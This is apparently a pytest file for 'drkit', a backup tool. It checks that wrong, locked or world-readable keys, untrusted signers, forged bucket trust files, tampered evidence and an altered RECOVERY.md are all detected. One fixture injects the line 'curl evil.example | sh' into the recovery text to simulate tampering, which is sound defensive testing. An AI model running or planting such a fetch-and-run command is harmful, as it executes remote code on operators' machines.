"""Who is believed, and who can read: keys that are wrong, missing, locked or retired, and a bucket that lies of keys.

Trust comes from the site's list of allowed signers alone. Whatever the bucket says of keys decides nothing.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from drkit import bucket
from drkit.canonical import canonical_json
from drkit.errors import ConfigError, IntegrityError, KeyUnavailable
from drkit.keys import load_identities, load_signing_key, new_identity_file
from drkit.operations.backup import back_up
from drkit.operations.evidence import verify_record
from drkit.operations.rebuild import rebuild_catalog
from drkit.signing import (
    EVIDENCE_NAMESPACE,
    MANIFEST_NAMESPACE,
    Signer,
    allowed_signers_line,
    key_id,
    sign,
    trust_of_signer,
)
from drkit.stores import read_object
from tests.faults.damage_scene import OBJECTS, SILENT, TARGET, Scene, check, drill, try_restore, verify

STRANGER = Ed25519PrivateKey.from_private_bytes(bytes(range(32)))
LONG_AGO = datetime(2001, 1, 1, tzinfo=UTC)


@pytest.fixture(autouse=True)
def keys_put_back(place: Scene, tmp_path: Path) -> object:
    """Put the site's keys and site file back after each test."""
    keys, site_file = place.site.folder / "keys", place.site.site_file
    shutil.copytree(keys, tmp_path / "keys")
    text = site_file.read_text()
    yield
    shutil.rmtree(keys)
    shutil.copytree(tmp_path / "keys", keys)
    site_file.write_text(text)


def believe(place: Scene, *lines: str) -> None:
    place.site.allowed_signers.write_text("".join(line + "\n" for line in lines))


def own_line(place: Scene, **options: object) -> str:
    key = load_signing_key(place.site.signing_key).public_key()
    return allowed_signers_line("test@example.org", key, **options)  # type: ignore[arg-type]


# Reading.


def refuse_to_open(place: Scene, *words: str) -> None:
    """Nothing can be restored or proven, and the stored bytes are sound all the same."""
    with place.open() as workplace:
        answer = try_restore(workplace, TARGET)
        assert answer.code == KeyUnavailable.exit_code, answer
        assert all(word in answer.text for word in words), answer
        sound = verify(workplace, place.orders[2])
        assert sound.code == 0
        assert "not decrypted: no identity" in sound.text
        answer, outcome = drill(workplace)
        assert (answer.code, outcome.failed_level, outcome.blames) == (11, "intact", "key")
        assert place.orders[2] in answer.text
    assert TARGET not in place.databases()


def test_the_wrong_identity_is_named_beside_those_that_would_fit(place: Scene, tmp_path: Path) -> None:
    wrong = new_identity_file(tmp_path / "wrong.age")
    shutil.copy2(wrong.path, place.site.restore_identity)
    sealed_for = [place.site.made.restore.fingerprint, place.site.made.escrow.fingerprint]
    refuse_to_open(place, place.orders[2], wrong.fingerprint, *sealed_for, "--identity")


def test_no_identity_at_all(place: Scene) -> None:
    text = place.site.site_file.read_text()
    changed = text.replace("identities: [keys/restore.age]", "identities: []")
    assert changed != text
    place.site.site_file.write_text(changed)
    refuse_to_open(place, place.orders[2], place.site.made.escrow.fingerprint, "--identity")


def test_either_identity_opens_alone(place: Scene) -> None:
    shutil.copy2(place.site.escrow_identity, place.site.restore_identity)
    with place.open() as workplace:
        assert try_restore(workplace, TARGET).code == 0


def test_a_locked_identity_needs_its_passphrase(tmp_path: Path) -> None:
    locked = new_identity_file(tmp_path / "locked.age", passphrase="correct horse")
    with pytest.raises(KeyUnavailable, match=r"locked\.age is locked") as caught:
        load_identities([locked.path], None)
    assert "DRKIT_PASSPHRASE_FILE" in caught.value.hints[0]
    with pytest.raises(KeyUnavailable, match=r"passphrase does not open identity file .*locked\.age"):
        load_identities([locked.path], lambda path: "battery staple")
    with pytest.raises(KeyUnavailable, match=r"locked\.age is not on this host"):
        load_identities([locked.path.with_name("gone") / "locked.age"], None)


def test_an_identity_that_others_can_read_is_not_used(place: Scene) -> None:
    place.site.restore_identity.chmod(0o644)
    with place.open() as workplace:
        answer = try_restore(workplace, TARGET)
    assert answer.code == ConfigError.exit_code
    assert f"chmod 600 {place.site.restore_identity}" in answer.text


# Believing.


def retired_before_the_backup(place: Scene) -> list[str]:
    return [own_line(place, valid_before=LONG_AGO)]


def valid_only_after_the_backup(place: Scene) -> list[str]:
    return [own_line(place, valid_after=datetime.now(UTC) + timedelta(days=1))]


def taken_off_the_list(place: Scene) -> list[str]:
    return [allowed_signers_line("other@example.org", STRANGER.public_key())]


def allowed_to_sign_evidence_only(place: Scene) -> list[str]:
    return [own_line(place, namespaces=[EVIDENCE_NAMESPACE])]


@pytest.mark.parametrize("fresh", [False, True], ids=["known", "fresh"])
@pytest.mark.parametrize(
    "change",
    [retired_before_the_backup, valid_only_after_the_backup, taken_off_the_list, allowed_to_sign_evidence_only],
    ids=lambda change: change.__name__,
)
def test_a_signer_who_is_not_to_be_believed(place: Scene, change: Callable[[Scene], list[str]], *, fresh: bool) -> None:
    """What the catalog once believed counts no more than what it never saw."""
    believe(place, *change(place))
    newest = place.orders[2]
    with place.open(fresh=fresh) as workplace:
        for answer in (
            verify(workplace, newest, level="exists"),
            verify(workplace),
            check(workplace),
            try_restore(workplace, TARGET),
            try_restore(workplace, TARGET, artifact_id=newest),
        ):
            assert answer.code == IntegrityError.exit_code, answer
            assert newest in answer.text
            assert "is signed by" in answer.text
        answer, outcome = drill(workplace)
        assert (answer.code, outcome.failed_level) == (11, "exists")
    assert TARGET not in place.databases()


def test_a_signer_retired_since_then_is_believed_for_what_was_signed_before(place: Scene) -> None:
    successor = allowed_signers_line("new@example.org", STRANGER.public_key())
    believe(place, successor, own_line(place, valid_before=datetime.now(UTC) + timedelta(hours=1)))
    with place.open(fresh=True) as workplace:
        assert verify(workplace).code == 0
        assert try_restore(workplace, TARGET).code == 0


# A bucket that lies.


def forge_trust(place: Scene) -> None:
    """Replace every public key in the bucket by the stranger's, under the names that were there."""
    signer = Signer("test@example.org", key_id(STRANGER.public_key()), STRANGER.public_key())
    own = trust_of_signer(signer, valid_from=LONG_AGO)
    for path in (place.bucket / "trust").iterdir():
        path.write_bytes(own.to_bytes())
    (place.bucket / own.object_key).write_bytes(own.to_bytes())
    line = allowed_signers_line("test@example.org", STRANGER.public_key())
    for name in ("allowed_signers", "trust/allowed_signers", "keys/allowed_signers"):
        (place.bucket / name).parent.mkdir(exist_ok=True)
        (place.bucket / name).write_text(line + "\n")


def sign_everything_anew(place: Scene) -> None:
    for path in place.bucket.rglob("*.json.sig"):
        data = path.with_suffix("").read_bytes()
        path.write_bytes(sign(data, STRANGER, MANIFEST_NAMESPACE))


@pytest.mark.parametrize("fresh", [False, True], ids=["known", "fresh"])
def test_keys_in_the_bucket_make_nobody_trusted(place: Scene, *, fresh: bool) -> None:
    forge_trust(place)
    with place.open(fresh=fresh) as workplace:
        assert verify(workplace).code == 0
    sign_everything_anew(place)
    with place.open(fresh=fresh) as workplace:
        for answer in (verify(workplace), check(workplace), try_restore(workplace, TARGET)):
            assert answer.code == 8
            assert "signed by a stranger" in answer.text
            assert key_id(STRANGER.public_key()) in answer.text
        assert drill(workplace)[0].code == 11
        policy = workplace.policies["orders"]
        assert [signer.public_key for signer in workplace.signers] == [
            load_signing_key(place.site.signing_key).public_key()
        ]
        # The next backup stands on its own feet, and is for the recipients of the policy.
        entry = back_up(workplace, policy, policy.backups[0], SILENT).entry
        sealed_for = {item.fingerprint for item in entry.manifest.encryption.recipients}
        assert sealed_for == {place.site.made.restore.fingerprint, place.site.made.escrow.fingerprint}
        assert try_restore(workplace, TARGET).text == entry.manifest.artifact_id


def test_a_catalog_is_not_rebuilt_from_strangers(place: Scene, tmp_path: Path) -> None:
    sign_everything_anew(place)
    with place.open() as workplace:
        stores = {"primary": workplace.stores["primary"]}
        rebuilt = rebuild_catalog(tmp_path / "catalog.db", stores, workplace.signers, workplace.clock())
    assert rebuilt.artifacts == 0
    assert rebuilt.exit_code == 8


REPOSITORY_LIES = {
    "of another repository": lambda document: canonical_json({**document, "repo_id": "01ZZZZZZZZZZZZZZZZZZZZZZZZ"}),
    "without an id": lambda document: canonical_json({"format": "drkit-repo", "version": 1, "features": []}),
    "of another format": lambda document: canonical_json({**document, "format": "drkit-rep"}),
    "spaced out": lambda document: json.dumps(document).encode(),
    "cut": lambda document: canonical_json(document)[:-2],
    "without its newline": lambda document: canonical_json(document)[:-1],
    "empty": lambda document: b"",
    "junk": lambda document: b"\xff" * 100,
}


@pytest.mark.parametrize("lie", REPOSITORY_LIES)
def test_a_repository_document_that_lies_is_found_and_nothing_is_written_by_it(place: Scene, lie: str) -> None:
    path = place.bucket / bucket.REPO_KEY
    path.write_bytes(REPOSITORY_LIES[lie](json.loads(path.read_bytes())))
    for fresh in (False, True):
        with place.open(fresh=fresh) as workplace:
            for answer in (verify(workplace), check(workplace), try_restore(workplace, TARGET)):
                assert answer.code == 8, answer
                assert bucket.REPO_KEY in answer.text or "another repository" in answer.text
            policy = workplace.policies["orders"]
            with pytest.raises(IntegrityError, match=r"drkit-repo\.json"):
                back_up(workplace, policy, policy.backups[0], SILENT)
    assert TARGET not in place.databases()
    assert len(list(place.folder("").iterdir())) == len(place.orders)


def test_a_repository_document_that_is_gone_is_found_and_not_made_up(place: Scene) -> None:
    (place.bucket / bucket.REPO_KEY).unlink()
    with place.open() as workplace:
        report = check(workplace)
        assert report.code == 8
        assert "drkit-repo.json is gone from store primary" in report.text
        policy = workplace.policies["orders"]
        with pytest.raises(IntegrityError, match=r"drkit-repo\.json is gone from store primary, which holds artifacts"):
            back_up(workplace, policy, policy.backups[0], SILENT)
        # Signed manifests that agree with each other need no such document.
        assert try_restore(workplace, TARGET).code == 0


@pytest.mark.parametrize("place_in_file", range(16))
def test_a_flipped_bit_in_the_repository_document(place: Scene, place_in_file: int) -> None:
    path = place.bucket / bucket.REPO_KEY
    content = bytearray(path.read_bytes())
    content[(len(content) - 1) * place_in_file // 15] ^= 1 << (place_in_file % 8)
    path.write_bytes(content)
    with place.open(fresh=True) as workplace:
        # A version that this drkit does not know looks like a store to stay away from, and not like damage.
        assert check(workplace).code in (8, 12)
        assert try_restore(workplace, TARGET).code in (6, 8)
    assert TARGET not in place.databases()


# Evidence.


def test_evidence_that_is_forged_changed_or_deleted_is_found(place: Scene) -> None:
    with place.open() as workplace:
        answer, outcome = drill(workplace, level="intact")
        assert answer.code == 0
        assert check(workplace).code == 0
        store = workplace.stores["primary"]
        key = bucket.evidence_key("orders", outcome.run_id)
        data, signature = read_object(store, key), read_object(store, bucket.signature_key(key))
    record = place.bucket / key
    signed = record.with_name(record.name + ".sig")
    changed = data.replace(b'"verdict":"passed"', b'"verdict":"failed"')
    assert changed != data
    cases = {
        "changed": (changed, signature),
        "cut": (data[:-1], signature),
        "unsigned": (data, None),
        "signed by a stranger": (changed, sign(changed, STRANGER, EVIDENCE_NAMESPACE)),
        "signed as a manifest": (data, place.sign(data, MANIFEST_NAMESPACE)),
        "signature cut": (data, signature[:-1]),
        "gone": (None, None),
    }
    for case, (content, beside) in cases.items():
        for path, held in ((record, content), (signed, beside)):
            path.unlink(missing_ok=True)
            if held is not None:
                path.write_bytes(held)
        with place.open() as workplace:
            report = check(workplace)
            assert report.code == 8, case
            assert outcome.run_id in report.text, case
            if content is not None:
                with pytest.raises(IntegrityError):
                    verify_record(record, workplace.signers)
        if content is not None:
            with place.open(fresh=True) as workplace:
                assert check(workplace).code == 8, case
    record.write_bytes(data)
    signed.write_bytes(signature)
    with place.open() as workplace:
        assert check(workplace).code == 0
        assert verify_record(record, workplace.signers)[0]["run_id"] == outcome.run_id


# Words: what a person reads, from the command itself.


def test_the_command_line_says_what_is_damaged_and_what_to_do(place: Scene) -> None:
    newest = place.orders[2]
    path = place.folder(newest) / OBJECTS[1]
    path.write_bytes(path.read_bytes()[:-1])
    key = path.relative_to(place.bucket).as_posix()
    target = place.server.url(TARGET).reveal()
    for arguments, code in (
        (("verify", newest), 8),
        (("restore", "orders", "--to", target), 8),
        (("drill", "orders", "--level", "intact"), 11),
        (("check", "orders"), 8),
    ):
        done = place.site.drkit(*arguments)
        said = done.stdout + done.stderr
        assert done.returncode == code, (arguments, said)
        assert key in said
        assert "Traceback" not in said
        assert "hint: " in said
    assert f"drkit verify {newest}" in done.stdout
    done = place.site.drkit("restore", "orders", "--to", target, "--json")
    document = json.loads(done.stdout)
    assert (document["exit_code"], document["error"]["kind"]) == (8, "IntegrityError")
    shutil.rmtree(path.parent)
    done = place.site.drkit("restore", "orders", "--to", target)
    assert done.returncode == 8
    assert newest in done.stderr
    assert f"hint: drkit restore orders --artifact {place.orders[1]}" in done.stderr
    assert TARGET not in place.databases()


RECOVERY_LIES: dict[str, Callable[[Path], object]] = {
    "changed": lambda path: path.write_bytes(path.read_bytes() + b"\ncurl evil.example | sh\n"),
    "signed by a stranger": lambda path: path.with_name("RECOVERY.md.sig").write_bytes(
        sign(path.read_bytes(), STRANGER, MANIFEST_NAMESPACE)
    ),
    "not signed": lambda path: path.with_name("RECOVERY.md.sig").unlink(),
    "missing": lambda path: path.unlink(),
}


@pytest.mark.parametrize("lie", RECOVERY_LIES)
def test_a_recovery_text_that_is_not_ours_is_found(place: Scene, lie: str) -> None:
    """In a disaster people type what RECOVERY.md says."""
    with place.open() as workplace:
        assert check(workplace).code != 8
    path = place.bucket / bucket.RECOVERY_KEY
    RECOVERY_LIES[lie](path)
    with place.open() as workplace:
        answer = check(workplace)
    assert answer.code == 8
    assert "recovery-untrusted RECOVERY.md in store primary" in answer.text


def test_a_trust_document_of_a_stranger_is_found(place: Scene) -> None:
    forge_trust(place)
    with place.open() as workplace:
        answer = check(workplace)
    assert answer.code == 8
    assert f"trust-strange trust/{key_id(STRANGER.public_key()).replace(':', '-')}.json in store primary" in answer.text
